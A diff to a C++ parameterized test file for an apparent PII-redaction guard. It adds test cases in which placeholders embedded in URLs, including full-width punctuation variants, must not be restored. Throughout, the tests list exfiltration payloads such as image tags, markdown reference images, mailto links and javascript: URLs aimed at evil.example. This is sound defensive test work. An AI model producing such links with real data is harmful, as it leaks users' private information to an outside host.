@@ -159,7 +159,9 @@ INSTANTIATE_TEST_SUITE_P(
                     "<img src=\"https:evil?[[PERSON_1_K9]]\">", "<img alt=\">\" src=/x?[[PERSON_1_K9]]>", "<a\nhref='x?\n[[PERSON_1_K9]]'>",
                     "see www.evil.example/[[PERSON_1_K9]]", "mailto:a@evil.example?body=[[PERSON_1_K9]]", "evil.example/?[[PERSON_1_K9]]",
                     "evil.example:8080/[[PERSON_1_K9]]", "<https://evil.example/[[PERSON_1_K9]]>", "[r]: //evil.example/[[PERSON_1_K9]]",
-                    "data:text/html,[[PERSON_1_K9]]", "https://evil.example/é/[[person_1_k9]]", "javascript:alert([[PERSON_1_K9]])"));
+                    "data:text/html,[[PERSON_1_K9]]", "https://evil.example/é/[[person_1_k9]]", "javascript:alert([[PERSON_1_K9]])",
+                    "<https://evil.example/。[[PERSON_1_K9]]>", "- ![x][b]\n\n- [b]: https://evil.example/？[[PERSON_1_K9]]",
+                    "https://evil.example/？d=a&e=b、[[PERSON_1_K9]]", "詳細はhttps://a.jp/を参照。[[PERSON_1_K9]]へ"));
 
 // Texts that only look a little like links.
 class NoLinkTest : public testing::TestWithParam<std::pair<std::string, std::string>> {};
@@ -172,7 +174,7 @@ INSTANTIATE_TEST_SUITE_P(
                     std::pair("[x](https://a.example) [[PHONE_2_K9]]", "[x](https://a.example) 090-1234-5678"),
                     std::pair("<b>[[PHONE_2_K9]]</b>", "<b>090-1234-5678</b>"), std::pair("Tel:[[PHONE_2_K9]]", "Tel:090-1234-5678"),
                     std::pair("a < b and [[PHONE_2_K9]]", "a < b and 090-1234-5678"),
-                    std::pair("詳細はhttps://a.jp/を参照。[[PHONE_2_K9]]へ", "詳細はhttps://a.jp/を参照。090-1234-5678へ"),
+                    std::pair("詳細はhttps://a.jp/ を参照。[[PHONE_2_K9]]へ", "詳細はhttps://a.jp/ を参照。090-1234-5678へ"),
                     std::pair("and/or:[[PHONE_2_K9]]", "and/or:090-1234-5678"), std::pair("[[[PHONE_2_K9]]](x)", "[090-1234-5678](x)"),
                     std::pair("<a href=x>\n\n[[PHONE_2_K9]]", "<a href=x>\n\n090-1234-5678"),
                     std::pair("<a href=x\n\n[[PHONE_2_K9]]", "<a href=x\n\n090-1234-5678")));
